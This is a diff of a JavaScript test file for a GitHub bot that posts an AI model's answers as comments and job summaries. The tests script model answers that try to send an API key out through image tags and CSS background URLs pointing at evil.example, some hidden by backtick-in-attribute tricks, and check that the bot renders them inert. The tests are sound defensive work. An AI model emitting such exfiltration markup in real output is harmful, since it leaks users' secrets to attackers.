@@ -54,8 +54,8 @@ it('an answer that encodes the key, links an image elsewhere or @-mentions peopl
   expect(posted).toContain('https://github.com/Codertocat/Hello-World/pull/2');
 });
 
-it("an answer whose image hides where the patterns see code (a backtick inside a tag) is posted as text that renders nothing (attacker review, stop 43)", async () => {
-  world.model.script({ text: `Done. <span title="\`"></span><img src="https://evil.example/i.png?d=${KEY}"><span title="\`"></span> Thanks.` });
+it("an answer whose image hides where the patterns used to see code (a backtick inside a tag), or in an attribute the patterns leave, renders nothing (attacker reviews, stop 43)", async () => {
+  world.model.script({ text: `Done. <span title="\`"></span><img src="https://evil.example/i.png?d=${KEY}"><span title="\`"></span> Thanks. <span style="background:url(https://evil.example/p.png)">x</span>` });
   const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9602', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
   expect(run.main.exitCode, run.main.stdout).toBe(0);
   const posted = world.github.commentsOn(51).filter((c) => c.author !== 'octocat').map((c) => c.body).join('\n');
@@ -64,4 +64,13 @@ it("an answer whose image hides where the patterns see code (a backtick inside a
   expect(html).not.toMatch(/<img\b/);
   expect(posted).toContain('Recall shows this answer as plain text');
   expect(posted).not.toContain(KEY);
+});
+
+it("the job summary shows an answer's code as code: its first paragraph is no part of the table's HTML block, and no cell is HTML (second review, stop 43)", async () => {
+  world.model.script({ text: 'Fixed. `<img src="https://evil.example/x.png?d=PRIVATE">` is what the page had.' });
+  const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9603', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
+  expect(run.main.exitCode, run.main.stdout).toBe(0);
+  const html = micromark(run.summary, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+  expect(html).toContain('<code>&lt;img src=&quot;https://evil.example/x.png?d=PRIVATE&quot;&gt;</code>');
+  expect(html).not.toMatch(/<img\b/);
 });
